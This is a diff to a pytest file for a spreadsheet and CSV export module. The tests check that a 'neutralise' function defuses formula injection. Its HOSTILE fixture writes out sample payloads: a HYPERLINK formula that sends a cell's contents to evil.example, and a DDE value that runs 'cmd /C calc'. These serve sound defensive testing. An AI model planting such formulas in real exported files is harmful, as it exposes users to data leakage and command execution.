@@ -13,7 +13,7 @@ import pytest
 from tables import build
 
 from extractor import _export, chunk_to_record, recheck
-from extractor._export import export, neutralise
+from extractor._export import export
 
 HOSTILE = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "department": "@SUM(1+1)*cmd|' /C calc'!A0",
            "unit": "+1-2", "file": '=HYPERLINK("http://evil.example").docx'}
@@ -70,7 +70,7 @@ def test_xlsx_keeps_control_characters_visible_instead_of_failing(tmp_path):
     ("  =x", "'  =x"), (" \t+x", "' \t+x"), ("100%", "100%"), ("项目", "项目"), ("a=b", "a=b"), (-5, -5), (None, None),
 ])
 def test_neutralise(value, expected):
-    assert neutralise(value) == expected
+    assert _export.neutralise(value) == expected
 
 
 def test_csv_and_its_audit_neutralise_formulas_and_keep_numbers(tmp_path):
